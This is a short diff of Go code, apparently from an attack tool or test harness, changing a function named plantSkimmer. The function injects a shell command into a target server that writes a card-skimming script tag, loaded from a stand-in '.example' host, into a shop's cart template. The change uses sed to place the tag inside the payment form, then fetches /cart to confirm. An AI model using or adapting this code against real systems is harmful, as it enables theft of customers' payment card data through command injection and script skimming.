@@ -198,7 +198,7 @@ func plantKey(ctx context.Context, r *raid) (string, error) {
 
 func plantSkimmer(ctx context.Context, r *raid) (string, error) {
 	skimmer := `<script src="//` + r.token + `.example/card.js"></script>`
-	_, err := r.inject(ctx, "echo '"+skimmer+"' >> /srv/templates/cart.html")
+	_, err := r.inject(ctx, "sed -i 's|</form>|"+skimmer+"</form>|' /srv/templates/cart.html")
 	page, getErr := r.get(ctx, "/cart", nil)
 	if err == nil {
 		err = getErr
